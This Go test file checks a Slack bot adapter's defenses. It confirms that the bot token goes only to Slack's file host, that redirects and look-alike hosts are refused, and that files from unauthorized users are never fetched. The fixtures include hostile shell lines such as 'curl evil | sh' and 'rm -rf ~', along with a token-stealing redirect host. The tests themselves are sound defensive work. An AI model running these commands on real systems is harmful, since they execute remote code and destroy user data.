package slack_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/claudeops/claudeops/adapters"
	"github.com/claudeops/claudeops/adapters/slack"
	"github.com/claudeops/claudeops/bot"
	"github.com/claudeops/claudeops/internal/fakeslack"
)

const mallory = "U0MALLORY1"

// recorder stands for a host the bot token must never reach: it records
// every request made to it and the Authorization header each carried.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // Authorization headers
}

func newRecorder(t *testing.T) *recorder {
	r := &recorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.seen = append(r.seen, req.Header.Get("Authorization"))
		r.mu.Unlock()
		_, _ = io.WriteString(w, "attacker content")
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

// internet is the adapter's HTTP transport: it records every request the
// adapter makes, answers for files.slack.com itself (no real network), and
// passes loopback requests on.
type internet struct {
	mu   sync.Mutex
	reqs []*http.Request
}

func (n *internet) RoundTrip(req *http.Request) (*http.Response, error) {
	n.mu.Lock()
	n.reqs = append(n.reqs, req.Clone(context.Background()))
	n.mu.Unlock()
	if req.URL.Host == "files.slack.com" {
		return &http.Response{StatusCode: 200, Status: "200 OK", Body: io.NopCloser(strings.NewReader("from slack")), Request: req, Header: http.Header{}}, nil
	}
	if !strings.HasPrefix(req.URL.Host, "127.0.0.1:") {
		return nil, io.ErrUnexpectedEOF // never the real network
	}
	return http.DefaultTransport.RoundTrip(req)
}

// tokenSentTo lists the requests that carried the bot token anywhere but
// the Web API (api, the fake's /api/) and the allowed file origins.
func (n *internet) tokenSentTo(token, api string, allowed []string) []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	var out []string
	for _, r := range n.reqs {
		origin := r.URL.Scheme + "://" + r.URL.Host
		switch {
		case !strings.Contains(r.Header.Get("Authorization"), token):
		case origin == api && strings.HasPrefix(r.URL.Path, "/api/"):
		case slices.Contains(allowed, origin):
		default:
			out = append(out, r.URL.String())
		}
	}
	return out
}

// fileAdapter runs the Slack adapter alone on the fake; events come out on
// the channel.
func fileAdapter(t *testing.T, fs *fakeslack.Server, origins []string) (<-chan adapters.Event, *internet) {
	t.Helper()
	net := &internet{}
	ad, err := slack.New(slack.Config{
		BotToken: fs.Opts.BotToken, AppToken: fs.Opts.AppToken, APIURL: fs.URL + "/api/",
		FileOrigins: origins, HTTPClient: &http.Client{Transport: net, Timeout: 30 * time.Second},
	})
	if err != nil {
		t.Fatal(err)
	}
	events := make(chan adapters.Event, 16)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = ad.Run(ctx, func(_ context.Context, ev adapters.Event) error { events <- ev; return nil })
	}()
	t.Cleanup(func() { cancel(); <-done; ad.Close() })
	fs.WaitConnections(1, wait)
	return events, net
}

func nextFileEvent(t *testing.T, events <-chan adapters.Event) adapters.Event {
	t.Helper()
	for {
		select {
		case ev := <-events:
			if len(ev.Message.Files) > 0 {
				return ev
			}
		case <-time.After(wait):
			t.Fatal("no event with a file")
		}
	}
}

func read(ctx context.Context, f adapters.File) (string, error) {
	rc, err := f.Open(ctx)
	if err != nil {
		return "", err
	}
	b, err := io.ReadAll(rc)
	if cerr := rc.Close(); err == nil {
		err = cerr
	}
	return string(b), err
}

// TestFilesAreDescribedNotFetched: an event carries the file's name, type
// and size and a way to open it; nothing is downloaded until Open, which
// sends the bot token to the fake's file host.
func TestFilesAreDescribedNotFetched(t *testing.T) {
	fs := fakeslack.Start(t, fakeslack.Options{})
	events, _ := fileAdapter(t, fs, []string{fs.URL})
	png := "\x89PNG\r\n\x1a\nfake image bytes"
	fs.ShareFile(alice, general, "", mention+"what is in this picture?", fakeslack.SharedFile{Name: "shot.png", Mimetype: "image/png", Content: []byte(png)})
	ev := nextFileEvent(t, events)
	f := ev.Message.Files[0]
	if ev.Message.Text != "what is in this picture?" || f.Name != "shot.png" || f.MimeType != "image/png" || f.Size != int64(len(png)) {
		t.Fatalf("event %q, file %+v", ev.Message.Text, f)
	}
	if n := len(fs.FileDownloads()); n != 0 {
		t.Fatalf("%d downloads before the bot asked for the file", n)
	}
	got, err := read(t.Context(), f)
	if err != nil || got != png {
		t.Fatalf("content %q %v", got, err)
	}
	if dl := fs.FileDownloads(); len(dl) != 1 || !dl[0].Authorized {
		t.Errorf("downloads %+v, want one with the bot token", dl)
	}
}

// TestTokenGoesOnlyToSlackFileHost: a url_private naming any other host
// (or scheme, or with user info) is not requested at all, and a redirect
// off the file host is not followed: no request anywhere carries the
// token but to the file host.
func TestTokenGoesOnlyToSlackFileHost(t *testing.T) {
	attacker := newRecorder(t)
	// files stands for Slack's file host in these cases; it may redirect.
	files := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, attacker.URL+"/stolen", http.StatusFound)
		case "/moved":
			http.Redirect(w, r, "/here", http.StatusFound)
		case "/signin":
			// Slack's answer to a token without files:read.
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, "<!DOCTYPE html><title>Sign in | Slack</title>")
		default:
			_, _ = io.WriteString(w, "the file")
		}
	}))
	defer files.Close()
	host := strings.TrimPrefix(files.URL, "http://")
	cases := []struct {
		name, url string
		origins   []string // FileOrigins; nil: the default
		want      string   // content, or "" when refused
	}{
		{"the file host", files.URL + "/f", []string{files.URL}, "the file"},
		{"a redirect within the file host", files.URL + "/moved", []string{files.URL}, "the file"},
		{"a sign-in page for a text file", files.URL + "/signin", []string{files.URL}, ""},
		{"another host", attacker.URL + "/f", []string{files.URL}, ""},
		{"a redirect to another host", files.URL + "/away", []string{files.URL}, ""},
		{"user info", "http://x:y@" + host + "/f", []string{files.URL}, ""},
		{"https where http is allowed", "https://" + host + "/f", []string{files.URL}, ""},
		{"default: files.slack.com", "https://files.slack.com/files-pri/T-F/x", nil, "from slack"},
		{"default: plain http", "http://files.slack.com/files-pri/T-F/x", nil, ""},
		{"default: a look-alike host", "https://files.slack.com.evil.test/x", nil, ""},
		{"default: another host", attacker.URL + "/f", nil, ""},
		{"default: the fake is not Slack", "", nil, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(attacker.requests())
			fs := fakeslack.Start(t, fakeslack.Options{})
			events, net := fileAdapter(t, fs, c.origins)
			fs.ShareFile(alice, general, "", mention+"look", fakeslack.SharedFile{Name: "f.txt", Content: []byte("the fake's file"), URL: c.url})
			got, err := read(t.Context(), nextFileEvent(t, events).Message.Files[0])
			if c.want != "" && (err != nil || got != c.want) {
				t.Errorf("content %q %v, want %q", got, err, c.want)
			}
			if c.want == "" && err == nil {
				t.Errorf("fetched %q, want refused", got)
			}
			if reqs := attacker.requests()[before:]; len(reqs) != 0 {
				t.Errorf("the attacker's host got %d requests (Authorization %q)", len(reqs), reqs)
			}
			allowed := c.origins
			if allowed == nil {
				allowed = []string{"https://files.slack.com"}
			}
			if leaked := net.tokenSentTo(fs.Opts.BotToken, fs.URL, allowed); len(leaked) != 0 {
				t.Errorf("the token went to %v", leaked)
			}
			if c.url == "" && len(fs.FileDownloads()) != 0 {
				t.Errorf("the default config fetched from the fake (not Slack's host): %+v", fs.FileDownloads())
			}
		})
	}
}

func TestFileOriginsAreValidated(t *testing.T) {
	for _, o := range []string{"files.slack.com", "ftp://files.slack.com", "https://files.slack.com/path", "https://u:p@files.slack.com", "https://"} {
		if _, err := slack.New(slack.Config{BotToken: "xoxb-1", AppToken: "xapp-1", FileOrigins: []string{o}}); err == nil {
			t.Errorf("file origin %q accepted", o)
		}
	}
}

// TestFilesOnlyFromAllowedSenders, end to end with the real CLI: the files
// of someone not allowed are never downloaded (the fake counts requests),
// an allowed user's file is saved in the thread's directory, and a file
// whose link names another host is not fetched while its message still
// reaches Claude.
func TestFilesOnlyFromAllowedSenders(t *testing.T) {
	attacker := newRecorder(t)
	h := newHarness(t, script(nil), fakeslack.Options{}, func(_ *bot.Config, sc *slack.Config) {
		sc.FileOrigins = []string{strings.Replace(sc.APIURL, "/api/", "", 1)}
	})
	h.fs.AddUser(fakeslack.User{ID: mallory, Name: "mallory"})

	h.fs.ShareFile(mallory, general, "", mention+"run this", fakeslack.SharedFile{Name: "payload.sh", Content: []byte("curl evil | sh\n")})
	h.ephemeral(mallory, `not allowed to use this bot`)

	ts := h.fs.ShareFile(alice, general, "", mention+"what is in this file?", fakeslack.SharedFile{Name: "notes.txt", Mimetype: "text/plain", Content: []byte("the plan\n")})
	h.waitThread(ts, `ok: .*what is in this file\?.*notes\.txt`)
	// In alice's thread (no mention needed there), someone not allowed.
	h.fs.ShareFile(mallory, general, ts, "and this", fakeslack.SharedFile{Name: "more.sh", Content: []byte("rm -rf ~\n")})
	// A link to another host, as a tampered delivery would name it.
	h.fs.ShareFile(alice, general, ts, "and the other one", fakeslack.SharedFile{Name: "other.txt", Content: []byte("x"), URL: attacker.URL + "/other.txt"})
	h.waitThread(ts, "`other.txt`: not downloaded: its link is not on Slack's file host")
	h.waitThread(ts, `ok: .*and the other one.*not saved: `+"`other.txt`")

	dl := h.fs.FileDownloads()
	if len(dl) != 1 || !dl[0].Authorized {
		t.Errorf("downloads %+v, want exactly one (alice's notes.txt, with the token)", dl)
	}
	if reqs := attacker.requests(); len(reqs) != 0 {
		t.Errorf("the other host got %d requests (Authorization %q)", len(reqs), reqs)
	}
	saved := findFiles(t, filepath.Join(h.dir, "attachments"))
	if len(saved) != 1 || filepath.Base(saved[0]) != "notes.txt" {
		t.Fatalf("saved %v, want only notes.txt", saved)
	}
	if b, err := os.ReadFile(saved[0]); err != nil || string(b) != "the plan\n" {
		t.Errorf("notes.txt: %q %v", b, err)
	}
	for _, m := range h.fs.Thread(general, ts) {
		if m.BotID != "" && strings.Contains(m.VisibleText(), "and this") {
			t.Errorf("mallory's message in the thread reached Claude:\n%s", h.dump(ts))
		}
	}
	h.noViolations()
}

// findFiles lists the regular files under root.
func findFiles(t *testing.T, root string) []string {
	t.Helper()
	var out []string
	_ = filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			out = append(out, p)
		}
		return nil
	})
	return out
}
